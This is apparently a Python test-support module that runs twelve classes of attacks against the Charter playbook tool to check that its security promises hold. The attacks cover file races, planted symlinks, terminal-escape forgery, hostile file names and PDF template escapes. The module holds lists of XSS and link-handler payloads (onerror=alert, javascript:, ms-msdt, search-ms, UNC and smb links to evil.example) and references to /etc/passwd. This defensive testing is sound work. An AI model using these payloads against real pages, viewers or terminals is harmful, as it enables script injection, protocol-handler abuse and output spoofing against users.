"""Nothing lost, nothing forged (issue 15): the twelve classes of attack on files, writers,
terminals, templates and links, each a function that tries many cases and reports what held.

Shared by the tests (``tests/robustness/test_trust.py``, ``tests/ui/test_trust_pdf.py``: one
test per class) and by ``python -m tests.robustness_report`` (the campaign's figures), so both
hold Charter to the same promises: nothing written outside the intended file, nothing reported
as recorded ever missing, no traceback or exit 3, no raw control character on a terminal, no
live link but http, https and mailto, and Charter's own process always up.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import grp
import hashlib
import html.parser
import io
import json
import os
import pwd
import re
import shutil
import stat
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from playbooks.io import locking, storage
from playbooks.io.yamlio import dump_yaml, load_yaml
from tests.robustness.campaign import run_cli

ROOT = Path(__file__).resolve().parents[2]
HUB = ROOT / "examples" / "meridian-securities-hub.playbook.yaml"
SPOKE = ROOT / "examples" / "meridian-securities-spoke-emea.playbook.yaml"

#: What a crafted file puts in its text to rewrite a reviewer's terminal.
FORGERY = (
    "\x1b[2J\x1b[H\rcharter: resolved, 0 errors\nFORGED line\u202eevil\u2066\x07\x9b31m\u200b"
    "\x85\u2028FORGED\x7f\ufeff\U000e0041"
)


@dataclass
class Report:
    """What one class of attack tried and found. ``held``: cases where every promise held."""

    name: str
    tried: int = 0
    held: int = 0
    bytes_lost: int = 0
    problems: list[str] = field(default_factory=list)

    def case(self, label: str, problems: list[str], lost: int = 0) -> None:
        """Record one case: its broken promises (none: it held) and the bytes it lost."""
        self.tried += 1
        self.bytes_lost += lost
        if problems:
            self.problems.extend(f"{label}: {p}" for p in problems)
        else:
            self.held += 1


# ---------------------------------------------------------------- helpers


def digest(path: Path) -> str:
    """What is at ``path`` (a file's content, a link's target, or its kind), without following links."""
    try:
        info = path.lstat()
    except FileNotFoundError:
        return "missing"
    if stat.S_ISLNK(info.st_mode):
        return f"link:{os.readlink(path)}"
    if stat.S_ISREG(info.st_mode):
        return hashlib.sha256(path.read_bytes()).hexdigest()
    return stat.filemode(info.st_mode)


def terminal_problems(text: str) -> list[str]:
    """Raw control, bidi or zero-width characters, and forged lines, in what reached a terminal."""
    problems = []
    for line in text.split("\n"):
        if not all(ch.isprintable() or ch == " " or (not ch.isascii() and ch.isspace()) for ch in line):
            bad = sorted({f"U+{ord(ch):04X}" for ch in line if not ch.isprintable() and not ch.isspace()})
            problems.append(
                f"a raw control or bidi character {bad or ['whitespace']} reached the terminal: {line[:80]!r}"
            )
        if line.startswith(("FORGED", "charter: resolved")):
            problems.append(f"a file forged a line of output: {line[:80]!r}")
    return problems


def cli(argv: list[str]) -> tuple[int, str, str]:
    """The command line in this process, with the promises every answer must keep."""
    code, out, err = run_cli(argv)
    return code, out, err


def answer_problems(code: int, out: str, err: str, allowed: frozenset[int] = frozenset({0, 1, 2})) -> list[str]:
    """The promises of every answer: an expected exit code, no crash, one line for a refusal, and
    nothing that acts on the terminal."""
    problems = terminal_problems(out + err)
    if code not in allowed:
        problems.append(f"exit code {code}")
    if "Traceback" in out + err or "internal error" in err:
        problems.append(f"a crash: {err[-300:]!r}")
    lines = [line for line in err.splitlines() if line.strip()]
    if code == 2 and (not lines or any(not line.startswith("charter: ") for line in lines)):
        problems.append(f"a refusal that is not one line per problem: {err[:300]!r}")
    return problems


def hub_copy(folder: Path, name: str = "hub.playbook.yaml") -> Path:
    target = folder / name
    shutil.copyfile(HUB, target)
    return target


def hub_and_spoke(folder: Path) -> tuple[Path, Path]:
    """The example hub and its EMEA spoke, side by side in ``folder``."""
    hub = folder / HUB.name
    spoke = folder / SPOKE.name
    shutil.copyfile(HUB, hub)
    shutil.copyfile(SPOKE, spoke)
    return hub, spoke


def sign_offs(path: Path) -> list[str]:
    """The approvers of every sign-off in a hub or spoke file."""
    data = load_yaml(path.read_text(encoding="utf-8"))
    section = data.get("spoke") if "spoke" in data else data.get("document")
    return [s["approver"] for s in (section or {}).get("sign_offs", [])]


def signoffs_at_once(
    targets: list[Path], extra: Callable[[int], list[str]] = lambda n: []
) -> tuple[list[str], list[str]]:
    """One ``charter signoff`` per target (approver ``Racer <n>``, with ``extra(n)`` arguments), all
    started at once as real processes: the approvers reported as recorded (exit 0), and the
    broken promises of every answer (:func:`answer_problems`)."""
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    command = [sys.executable, str(ROOT / "main.py"), "signoff"]
    processes = [
        subprocess.Popen(
            [*command, str(target), "--approver", f"Racer {n}", "--role", "Reviewer", *extra(n)],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=env,
        )
        for n, target in enumerate(targets)
    ]
    recorded, problems = [], []
    for n, process in enumerate(processes):
        out, err = process.communicate(timeout=180)
        problems += answer_problems(process.returncode, out, err)
        if process.returncode == 0:
            recorded.append(f"Racer {n}")
    return recorded, problems


@contextlib.contextmanager
def editor_holding(playbook: Path, purpose: str = "editing", seconds: float = 60) -> Iterator[int]:
    """Another process holding the lock of ``playbook`` (an open editor, or a writer)."""
    code = (
        "import sys, time\n"
        "from playbooks.io import locking\n"
        "lock = locking.acquire(sys.argv[1], **({} if sys.argv[2] == 'editing' else {'purpose': sys.argv[2]}))\n"
        "print('held', flush=True)\n"
        "time.sleep(float(sys.argv[3]))\n"
        "lock.release()\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code, str(playbook), purpose, str(seconds)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert process.stdout is not None
    process.stdout.readline()
    try:
        yield process.pid
    finally:
        process.kill()
        process.wait()
        process.stdout.close()


# ---------------------------------------------------------------- 1. concurrent writers


def concurrent_writers(folder: Path, writers: int = 6) -> Report:
    """Sign-offs by several real processes at once (hub and spoke), and writers meeting an editor."""
    report = Report("concurrent writers")
    hub, spoke = hub_and_spoke(folder)
    for target, extra in ((hub, ["--bump", "patch"]), (spoke, [])):
        before = sign_offs(target)
        recorded, problems = signoffs_at_once([target] * writers, lambda n, extra=extra: extra)
        after = sign_offs(target)
        missing = [name for name in recorded if name not in after]
        if missing:
            problems.append(f"{len(missing)} sign-offs reported as recorded are missing: {missing}")
        if after[: len(before)] != before:
            problems.append("earlier sign-offs were lost")
        if len(recorded) != writers:
            problems.append(f"only {len(recorded)} of {writers} writers got through")
        report.case(f"{writers} signoffs at once on the {target.name}", problems, lost=200 * len(missing))
    # a file open in an editor: one line naming the holder and the lock's age, the file untouched
    target = hub_copy(folder, "open.playbook.yaml")
    before = digest(target)
    with editor_holding(target):
        code, out, err = cli(["signoff", str(target), "--approver", "Late Comer", "--role", "Reviewer"])
        problems = answer_problems(code, out, err)
        if code != 2 or "open in Charter by" not in err or ("ago" not in err and "just now" not in err):
            problems.append(f"no one line with the holder and age: {code} {err!r}")
        if digest(target) != before:
            problems.append("the file changed although an editor holds it")
        report.case("signoff while an editor holds the file", problems, lost=0 if digest(target) == before else 1)
        for argv in (
            ["new", "-o", str(target), "--force"],
            ["rebase", str(target)],
        ):
            code, out, err = cli(argv)
            problems = answer_problems(code, out, err)
            if code == 0 or digest(target) != before:
                problems.append(f"{argv[0]} wrote a file an editor holds ({code}, {err!r})")
            report.case(f"{argv[0]} while an editor holds the file", problems)
        code, out, err = cli(["signoff", str(target), "--approver", "Breaker", "--role", "Reviewer", "--break-lock"])
        problems = answer_problems(code, out, err)
        if code != 0 or "Breaker" not in sign_offs(target):
            problems.append(f"--break-lock did not record the sign-off ({code}, {err!r})")
        report.case("signoff --break-lock", problems)
    # another writer holds it for a moment: the command waits, then records
    target = hub_copy(folder, "busy.playbook.yaml")
    with editor_holding(target, purpose="writing", seconds=1.5):
        code, out, err = cli(["signoff", str(target), "--approver", "Patient One", "--role", "Reviewer"])
        problems = answer_problems(code, out, err)
        if code != 0 or "Patient One" not in sign_offs(target):
            problems.append(f"a writer did not wait for another writer ({code}, {err!r})")
        report.case("signoff while another writer writes", problems)
    return report


# ---------------------------------------------------------------- 2. shared folders


def shared_folders(folder: Path) -> Report:
    """A save keeps the file's group and mode (its owner too, as root); the backup gets the original's."""
    report = Report("shared folders")
    if os.geteuid() != 0:
        report.problems.append("not run: the owner and group cases need root (CI runs as root)")
        return report
    nobody, nogroup = pwd.getpwnam("nobody").pw_uid, grp.getgrnam("nogroup").gr_gid
    for mode in (0o660, 0o640, 0o664, 0o600, 0o444):
        target = hub_copy(folder, f"shared-{mode:o}.playbook.yaml")
        os.chown(target, nobody, nogroup)
        os.chmod(target, mode)
        code, out, err = cli(["signoff", str(target), "--approver", "Shared Approver", "--role", "Reviewer"])
        problems = answer_problems(code, out, err, frozenset({0}))
        problems += _owner_problems(target, nobody, nogroup, mode)
        backup = target.with_name(target.name + storage.BACKUP_SUFFIX)
        problems += [f"backup: {p}" for p in _owner_problems(backup, nobody, nogroup, mode)]
        report.case(f"a sign-off of a nobody:nogroup {mode:o} playbook, as root", problems)
    # as another user, in the file's group: the group and mode stay, the owner becomes the saver
    # (a folder of its own under /tmp: the scratch folder's parents are private to root)
    shared = Path(tempfile.mkdtemp(prefix="charter-team-"))
    try:
        os.chown(shared, 0, nogroup)
        os.chmod(shared, 0o2775)
        target = hub_copy(shared, "team.playbook.yaml")
        os.chown(target, 0, nogroup)
        os.chmod(target, 0o664)
        playbook = storage.load(target)
        changed = playbook.model_copy(update={"document": playbook.document.model_copy(update={"title": "Team copy"})})
        status = _as_user(nobody, nogroup, lambda: storage.save(changed, target))
        if status != 0:
            report.case("a save by another user of the file's group", [f"the save as nobody failed ({status})"])
            return report
        problems = _owner_problems(target, nobody, nogroup, 0o664)
        backup = target.with_name(target.name + storage.BACKUP_SUFFIX)
        problems += [f"backup: {p}" for p in _owner_problems(backup, nobody, nogroup, 0o664)]
        report.case("a save by another user of the file's group", problems)
    finally:
        shutil.rmtree(shared, ignore_errors=True)
    return report


def _owner_problems(path: Path, uid: int, gid: int, mode: int) -> list[str]:
    try:
        info = path.stat()
    except OSError:
        return [f"{path.name} is missing"]
    found = (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode))
    if found != (uid, gid, mode):
        return [f"{path.name} is {found[0]}:{found[1]} {found[2]:o}, expected {uid}:{gid} {mode:o}"]
    return []


def _as_user(uid: int, gid: int, action: Callable[[], object]) -> int:
    """Run ``action`` in a forked child as user ``uid`` with ``gid`` as its only group."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.setgroups([gid])
            os.setgid(gid)
            os.setuid(uid)
            os.umask(0o022)
            action()
        except BaseException:
            os._exit(1)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status)


# ---------------------------------------------------------------- 3. planted links and protected outputs


def planted_links(folder: Path) -> Report:
    """Outputs replace a planted link (or hard link), never write through it; inputs and playbooks
    are never replaced; an existing output only with --force; fifos, devices and folders never."""
    report = Report("planted links and outputs")
    victims = folder / "victim"
    victims.mkdir()
    secret = victims / "thesis.docx"
    secret.write_bytes(b"the victim's own work " * 100)
    hub, spoke = hub_and_spoke(folder)
    work = folder / "work"
    work.mkdir()
    # a device of our own: should a regression replace it, it must not be the system's /dev/null
    device = victims / "null"
    if os.geteuid() == 0:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    else:
        os.mkfifo(device)
    kinds = {
        "symlink": lambda at: at.symlink_to(secret),
        "dangling symlink": lambda at: at.symlink_to(victims / "autostart.desktop"),
        "hard link": lambda at: os.link(secret, at),
        "link to a device": lambda at: at.symlink_to(device),
    }
    commands: dict[str, Callable[[Path], list[str]]] = {
        "export": lambda out: ["export", str(hub), "--format", "html", "-o", str(out)],
        "export md of a spoke": lambda out: ["export", str(spoke), "--format", "md", "-o", str(out)],
        "compare -o": lambda out: ["compare", str(hub), str(spoke), "-o", str(out)],
        "resolve -o": lambda out: ["resolve", str(spoke), "-o", str(out)],
        "new -o": lambda out: ["new", "-o", str(out)],
    }
    for command, argv in commands.items():
        for kind, plant in kinds.items():
            for force in (False, True):
                out = work / f"out-{len(list(work.iterdir()))}.playbook.yaml"
                if command.startswith(("export", "compare")):
                    out = out.with_name(out.name.replace(".playbook.yaml", ".html"))
                plant(out)
                before = {p: digest(p) for p in (secret, victims / "autostart.desktop", device, hub, spoke)}
                code, stdout, err = cli(argv(out) + (["--force"] if force else []))
                problems = answer_problems(code, stdout, err)
                changed = [p.name for p, d in before.items() if digest(p) != d]
                lost = sum(p.stat().st_size for p in before if p.exists() and p.name in changed)
                if changed:
                    problems.append(f"wrote through the {kind} into {changed}")
                if not force and code == 0:
                    problems.append("replaced an existing name without --force")
                if force and kind != "link to a device" and code == 0 and out.is_symlink():
                    problems.append("the link is still there")
                if force and kind == "link to a device" and code == 0:
                    problems.append("replaced a link to a device")
                report.case(f"{command} over a {kind}{' --force' if force else ''}", problems, lost)
    # inputs and playbooks are never replaced, --force or not
    other = folder / "other.playbook.yaml"
    shutil.copyfile(HUB, other)
    for label, argv in (
        ("export SPOKE -o HUB", ["export", str(spoke), "--format", "md", "-o", str(hub)]),
        ("export HUB -o HUB", ["export", str(hub), "--format", "html", "-o", str(hub)]),
        ("export -o another playbook", ["export", str(hub), "--format", "md", "-o", str(other)]),
        (
            "export -o a new *.playbook.yaml",
            ["export", str(hub), "--format", "md", "-o", str(folder / "n.playbook.yaml")],
        ),
        ("compare -o its input", ["compare", str(hub), str(spoke), "-o", str(spoke)]),
        ("resolve -o its hub", ["resolve", str(spoke), "-o", str(hub)]),
        ("new --spoke-of HUB -o HUB", ["new", "--spoke-of", str(hub), "--region", "X", "-o", str(hub)]),
    ):
        for force in (False, True):
            before = {p: digest(p) for p in (hub, spoke, other)}
            code, stdout, err = cli(argv + (["--force"] if force else []))
            problems = answer_problems(code, stdout, err)
            changed = [p for p, d in before.items() if digest(p) != d]
            if code == 0 or changed:
                problems.append(f"an input or playbook was replaced ({code}, {[p.name for p in changed]})")
            report.case(f"{label}{' --force' if force else ''}", problems, sum(p.stat().st_size for p in changed))
    if (folder / "n.playbook.yaml").exists():
        report.problems.append("export wrote a file named like a playbook")
    # things that are not files: refused at once, never a hang
    fifo = work / "pipe.html"
    os.mkfifo(fifo)
    (work / "dir.html").mkdir()
    for target in (fifo, work / "dir.html"):
        started = time.monotonic()
        done = subprocess.run(
            [
                sys.executable,
                str(ROOT / "main.py"),
                "export",
                str(hub),
                "--format",
                "html",
                "-o",
                str(target),
                "--force",
            ],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )
        problems = answer_problems(done.returncode, done.stdout, done.stderr)
        if done.returncode != 2 or not (target.is_fifo() or target.is_dir()):
            problems.append(f"an export replaced a {stat.filemode(target.lstat().st_mode)[0]} ({done.returncode})")
        if time.monotonic() - started > 30:
            problems.append("it hung")
        report.case(f"export -o a {'fifo' if target == fifo else 'folder'}", problems)
    # the name is taken between the checks and the write: the file is not replaced
    raced = work / "raced.html"
    real_write = getattr(storage, "_write", None) or storage.atomic_write

    def plant_first(target: Any, data: bytes, **kwargs: Any) -> None:
        if Path(target) == raced and not os.path.lexists(raced):
            raced.symlink_to(secret)
        real_write(target, data, **kwargs)

    setattr(storage, real_write.__name__, plant_first)
    try:
        before = digest(secret)
        code, stdout, err = cli(["export", str(hub), "--format", "html", "-o", str(raced)])
    finally:
        setattr(storage, real_write.__name__, real_write)
    problems = answer_problems(code, stdout, err)
    if digest(secret) != before or not raced.is_symlink() or code == 0:
        problems.append(f"a link planted after the checks was written through or replaced ({code})")
    report.case("a link planted between the checks and the write", problems)
    return report


# ---------------------------------------------------------------- 4. numbers


#: A metric's baseline in a playbook's YAML, whatever its indentation; group 1 is the key.
BASELINE = re.compile(r"^( *baseline: ).*$", re.MULTILINE)


def numbers(folder: Path) -> Report:
    """Non-finite numbers are refused at load and at the field; the fingerprint tells every value apart."""
    from pydantic import ValidationError

    from playbooks.format.model import Playbook

    report = Report("numbers")
    text = HUB.read_text(encoding="utf-8")
    for value in (
        "nan",
        "NaN",
        "inf",
        "-inf",
        "Infinity",
        "-Infinity",
        "1e400",
        "-1e999",
        "!!float .nan",
        "!!float .inf",
    ):
        path = folder / f"number-{len(list(folder.iterdir()))}.playbook.yaml"
        # the first metric's baseline, by hand: the value is YAML text the model could not hold
        path.write_text(BASELINE.sub(rf"\g<1>{value}", text, count=1), encoding="utf-8")
        before = digest(path)
        code, out, err = cli(["validate", str(path)])
        problems = answer_problems(code, out, err)
        if code != 1 or "ordinary number" not in out:
            problems.append(f"{value} validated as a number ({code})")
        code, out, err = cli(["signoff", str(path), "--approver", "Num Ber", "--role", "Reviewer"])
        if code == 0 or digest(path) != before:
            problems.append(f"a file with {value} was signed and saved")
        report.case(f"baseline: {value}", problems)
    playbook = storage.load(HUB)
    metric = playbook.measurement.metrics[0]
    for number in (float("nan"), float("inf"), float("-inf")):
        problems = []
        try:
            metric.model_copy().baseline = number
            problems.append(f"the field took {number}")
        except ValidationError:
            pass
        report.case(f"the editor's field given {number}", problems)
    data = playbook.model_dump(mode="python")
    data["measurement"]["metrics"][0]["baseline"] = None
    empty = Playbook.model_validate(data)
    forged = empty.model_copy(deep=True)
    object.__setattr__(forged.measurement.metrics[0], "baseline", float("inf"))  # past validation
    report.case(
        "the fingerprint of null and of infinity",
        [] if storage.fingerprint(forged) != storage.fingerprint(empty) else ["infinity fingerprints as null"],
    )
    return report


# ---------------------------------------------------------------- 5. file names


NAMES = {
    "latin-1": os.fsdecode(b"Richtlinie-\xdc"),
    "newline": "line\nFORGED line",
    "escape": "esc\x1b[2Jcleared",
    "bidi": "policy\u202egpj.exe",
    "carriage return": "cr\rcharter: resolved, 0 errors",
    "tab and spaces": "  tab\tname ",
    "emoji": "policy-\U0001f600",
    "long": "x" * 200,
}


def file_names(folder: Path) -> Report:
    """Every command on files with any name the OS allows: it works, or says so in one line."""
    report = Report("file names")
    for label, stem in NAMES.items():
        place = folder / label.replace(" ", "-")
        place.mkdir()
        hub = place / f"{stem}.playbook.yaml"
        shutil.copyfile(HUB, hub)
        spoke = place / f"{stem}-spoke.playbook.yaml"
        commands = [
            ["validate", str(hub)],
            ["validate", str(hub), "--format", "json"],
            ["export", str(hub), "--format", "html"],
            ["export", str(hub), "--format", "md", "-o", str(place / f"{stem}.md")],
            ["signoff", str(hub), "--approver", "Name Tester", "--role", "Reviewer"],
            ["signoff", str(hub), "--show"],
            ["new", "-o", str(place / f"{stem}-new.playbook.yaml")],
            ["new", "--spoke-of", str(hub), "--region", "EU", "-o", str(spoke)],
            ["compare", str(hub), str(HUB)],
            ["diff", str(spoke)],
            ["resolve", str(spoke)],
            ["rebase", str(spoke)],
            ["validate", str(place / f"{stem}-missing.playbook.yaml")],
        ]
        for argv in commands:
            code, out, err = cli(argv)
            problems = answer_problems(code, out, err)
            if argv[0] == "validate" and "--format" in argv:
                try:
                    json.loads(out)
                except ValueError:
                    problems.append("validate --format json is not JSON")
            report.case(f"{label}: {argv[0]}", problems)
    return report


# ---------------------------------------------------------------- 6. terminal injection


def _crafted(folder: Path) -> tuple[Path, Path]:
    """A hub and a spoke whose texts, names and rationale carry :data:`FORGERY`."""
    hub, spoke = hub_and_spoke(folder)
    data = load_yaml(hub.read_text(encoding="utf-8"))
    data["document"]["title"] = f"Title {FORGERY}"
    data["channels"]["accounts"][0]["platform"] = f"Platform {FORGERY}"
    hub.write_text(dump_yaml(data), encoding="utf-8")
    spoke_data = load_yaml(spoke.read_text(encoding="utf-8"))
    spoke_data["spoke"]["region"] = f"Region {FORGERY}"
    for change in spoke_data["changes"]:
        change["rationale"] = f"Because {FORGERY}"
        change["approver"] = f"Approver {FORGERY}"[:200]
    spoke.write_text(dump_yaml(spoke_data), encoding="utf-8")
    named = folder / f"named {FORGERY}.playbook.yaml"
    shutil.copyfile(hub, named)
    return hub, spoke


def terminal(folder: Path) -> Report:
    """Control characters, line breaks and bidi overrides from a file never reach a terminal raw."""
    report = Report("terminal injection")
    hub, spoke = _crafted(folder)
    named = folder / f"named {FORGERY}.playbook.yaml"
    templates = folder / f"templates {FORGERY}"
    templates.mkdir()
    (templates / "policy.html.j2").write_text("{% if %}", encoding="utf-8")
    (templates / "crisis.html.j2").write_text("{{ nothing.here }}", encoding="utf-8")
    commands = [
        ["validate", str(hub)],
        ["validate", str(named)],
        ["validate", str(hub), str(spoke)],
        ["validate", str(spoke), "--format", "json"],
        ["validate", str(spoke), "--format", "sarif"],
        ["validate", "--explain", FORGERY],
        ["diff", str(spoke)],
        ["diff", str(spoke), "--format", "json"],
        ["diff", str(spoke), "--against-hub-version"],
        ["compare", str(HUB), str(hub)],
        ["compare", str(HUB), str(spoke), "--format", "json"],
        ["resolve", str(spoke)],
        ["signoff", str(spoke), "--show"],
        ["signoff", str(named), "--show"],
        ["signoff", str(hub), "--approver", f"A {FORGERY}", "--role", "R"],
        ["signoff", str(hub), "--approver", "Real Person", "--role", "Reviewer", "--comment", FORGERY],
        ["export", str(hub), "--format", "html", "--template-dir", str(templates), "-o", str(folder / "t.html")],
        ["export", str(hub), "--doc", "crisis", "--format", "html", "--template-dir", str(templates)],
        ["export", str(named), "--format", "md"],
        ["rebase", str(spoke)],
        ["new", "--spoke-of", str(hub), "--region", FORGERY, "-o", str(folder / "r.playbook.yaml")],
        ["export", str(folder / f"missing {FORGERY}.playbook.yaml")],
        ["validate", "--format", f"x{FORGERY}", str(hub)],
    ]
    for argv in commands:
        code, out, err = cli(argv)
        problems = answer_problems(code, out, err)
        if "--format" in argv and argv[argv.index("--format") + 1] in ("json", "sarif") and code in (0, 1):
            try:
                json.loads(out)
            except ValueError:
                problems.append("the JSON output is no longer JSON")
        if argv[0] == "resolve" and code == 0:
            from playbooks.tailoring.reader import read_playbook

            effective = read_playbook(spoke).playbook
            if effective is None or storage.playbook_from_text("printed", out) != effective:
                problems.append("the YAML printed is not the effective playbook")
        report.case(" ".join(a if a.isprintable() else "…" for a in argv[:2]), problems)
    return report


# ---------------------------------------------------------------- 7. custom templates in PDF


def pdf_templates(folder: Path) -> Report:
    """A custom template's PDF: bombs stop in the child, resources only from the template folder."""
    import ui.pdf  # noqa: F401  (registers the PDF writer; needs Qt)
    from playbooks.export import ExportError, Limits, export_document

    report = Report("custom templates in PDF")
    playbook = storage.load(HUB)
    outside = folder / "outside"
    outside.mkdir()
    _png(outside / "secret.png", 37, 23)
    templates = folder / "templates"
    templates.mkdir()
    _png(templates / "logo.png", 41, 19)
    (templates / "escape.png").symlink_to(outside / "secret.png")
    os.mkfifo(templates / "pipe.png")
    (outside / "style.css").write_text("p { color: red }", encoding="utf-8")
    limits = Limits(seconds=6, memory_bytes=1024 * 1024 * 1024)
    attacks = {
        "3,000 nested tables": "<table><tr><td>" * 3000 + "x" + "</td></tr></table>" * 3000,
        "22 nested tables": "<table><tr><td>" * 22 + "x" + "</td></tr></table>" * 22,
        "/dev/zero image": '<p>x</p><img src="/dev/zero"><img src="file:///dev/urandom">',
        "absolute path outside": f'<img src="{outside / "secret.png"}">',
        "file:// outside": f'<img src="file://{outside / "secret.png"}">',
        "dot-dot outside": '<img src="../outside/secret.png">',
        "symlink out of the folder": '<img src="escape.png">',
        "fifo in the folder": '<img src="pipe.png">',
        "UNC and http": '<img src="//evil.example/x.png"><img src="http://evil.example/x.png">',
        "css outside": f'<link rel="stylesheet" href="{outside / "style.css"}"><p style="background-image: url({outside / "secret.png"})">x</p>',
        "links": '<a href="search-ms:query=x">s</a><a href="smb://evil/x">m</a><a href="file:///etc/passwd">f</a>'
        '<a href="https://ok.example/">ok</a>',
        "the folder's own image": '<img src="logo.png">',
    }
    for name, source in attacks.items():
        (templates / "policy.html.j2").write_text(source, encoding="utf-8")
        started = time.monotonic()
        problems = []
        try:
            data = export_document(playbook, "policy", "pdf", template_dir=templates, limits=limits)
        except ExportError as exc:
            data = b""
            if "\n" in str(exc) or str(templates) not in str(exc):
                problems.append(f"not one line naming the template: {exc}")
        seconds = time.monotonic() - started
        if seconds > limits.seconds + 15:
            problems.append(f"took {seconds:.0f} s")
        sizes = set(re.findall(rb"/Width (\d+)\s*/Height (\d+)", data))
        if (b"37", b"23") in sizes:
            problems.append("an image from outside the template folder was embedded")
        uris = pdf_link_targets(data)
        if any(not uri.startswith(("http:", "https:", "mailto:")) for uri in uris):
            problems.append(f"a live link other than http, https, mailto: {uris}")
        if name == "the folder's own image" and (b"41", b"19") not in sizes:
            problems.append("the template folder's own image is missing")
        if name == "links" and not any(uri.startswith("https://ok.example") for uri in uris):
            problems.append("the https link is not a link")
        report.case(name, problems)
    return report


def _png(path: Path, width: int, height: int) -> None:
    import struct
    import zlib

    raw = b"".join(b"\x00" + b"\x80\x20\x20" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    )


# ---------------------------------------------------------------- 8. and 9. Markdown and links


#: Field text aimed at Markdown viewers that render raw HTML, and at link handlers.
MARKDOWN_ATTACKS = [
    "a ` b <img src=x onerror=alert(1)>",
    "`` <img src=x onerror=alert(2)> `",
    "``` foo`bar\n<script>alert(3)</script>\n```",
    "~~~\n<script>alert(4)</script>\n~~~~\n<img src=x onerror=alert(5)>",
    "    <script>alert(6)</script>\n<script>alert(7)</script>",
    "<div>\n<img src=x onerror=alert(8)>\n</div>",
    "&lt;script&gt;alert(9)&lt;/script&gt; &#60;img src=x onerror=alert(10)&#62;",
    "[x](javascript:alert(11)) [y](JAVASCRIPT:alert(12)) [z](<javascript:alert(13)>)",
    "<javascript:alert(14)> <vbscript:msgbox(15)> <data:text/html,<script>alert(16)</script>>",
    "[ref]\n\n[ref]: javascript:alert(17)",
    "![img](http://evil.example/beacon.png) ![x](\\\\evil\\share\\x.png)",
    "\\\\evil.example\\share\\policy.docx and [unc](\\\\\\\\evil\\share) and [f](file://evil/share/x)",
    "[s](search-ms:query=invoice&crumb=location:\\\\evil\\share) [m](ms-msdt:/id PCWDiagnostic)",
    "[w](ms-word:ofe|u|http://evil.example/x.docx) [h](mhtml:http://evil.example/x.mht!x) [b](smb://evil/share)",
    "<smb://evil/share> <search-ms:query=x> <ms-excel:ofv|u|http://e/x>",
    "- item <b onmouseover=alert(18)>x</b>\n  - nested `<i>`\n\n> quote <iframe src=http://evil.example>",
    "Line one\\\n<svg onload=alert(19)>",
    "*<b>bold</b>* **<u>x</u>** [<img src=x onerror=alert(20)>](https://ok.example/)",
    "[ok](https://ok.example/a?b=c&d=<e>) [mail](mailto:compliance@example.com)",
    "# <script>alert(21)</script>\nSetext <b>\n===",
    "[e](&#115;mb://evil) [b](https:\\\\evil) [p](//evil.example/x) [t](\tjavascript:alert(22)) <a@b.example>",
    "``\n<script>alert(23)</script>\n`` <!-- x --> <?php x ?> <![CDATA[<script>alert(24)</script>]]>",
    # GFM tables: a bare | ends a cell even inside a code span (issue 15, tried again)
    "| `a|<script>alert(25)</script>` |\n|---|\n| x |",
    "| h |\n|---|\n| `\\|` <img src=x onerror=alert(26)> |",
    "| h | i |\n|---|---|\n| [x](https://ok.example/a\\|<b>) | y |",
    "| h | i |\n|---|---|\n| `a\\|<iframe src=//evil.example>` | y |",
    "| `x\\|<svg onload=alert(27)>`| b |\n|---|---|\n| c | d |",
    "| h |\n|---|\n| **`x\\|<img src=x onerror=alert(28)>`** |",
    "| h |\n|---|\n| *a* `b\\|<details open ontoggle=alert(29)>` |",
    "> | h |\n> |---|\n> | `q\\|<img src=x onerror=alert(30)>` | z |",
    "- | h |\n  |---|\n  | `li\\|<img src=x onerror=alert(31)>` | z |",
    "| h |\n|---|\n| `a\\|<!--` | `b\\|-->` |",
    "| h |\n|---|\n| ``a\\|`<img src=x onerror=alert(32)>`` |",
    "| h |\n|---|\n| `x\\\\|<img src=x onerror=alert(33)>` |",
    "| h |\n|---|\n| [`c\\|<img src=x onerror=alert(34)>`](https://ok.example/) |",
    "Setext `x|<img src=x onerror=alert(35)>`\n---",
]
#: What a Markdown viewer may show of exported user text.
SAFE_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "em", "strong", "code", "pre",
    "blockquote", "hr", "br", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def pdf_link_targets(data: bytes) -> list[str]:
    """The target of every URI action in a PDF (empty: none), as a PDF reader decodes it: any
    object the document reaches, not only the pages' annotations, and whatever escapes or
    encoding the writer chose for the string (pypdf writes most characters as octal escapes)."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    if not data:
        return []
    reader = PdfReader(io.BytesIO(data))
    targets: list[str] = []
    seen: set[tuple[int, int]] = set()
    pending: list[Any] = [reader.trailer]
    while pending:
        node = pending.pop()
        if isinstance(node, IndirectObject):
            if (node.idnum, node.generation) in seen:
                continue
            seen.add((node.idnum, node.generation))
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            if "/URI" in node:
                targets.append(str(node["/URI"]))
            pending.extend(value for key, value in node.items() if key != "/Parent")
        elif isinstance(node, ArrayObject):
            pending.extend(node)
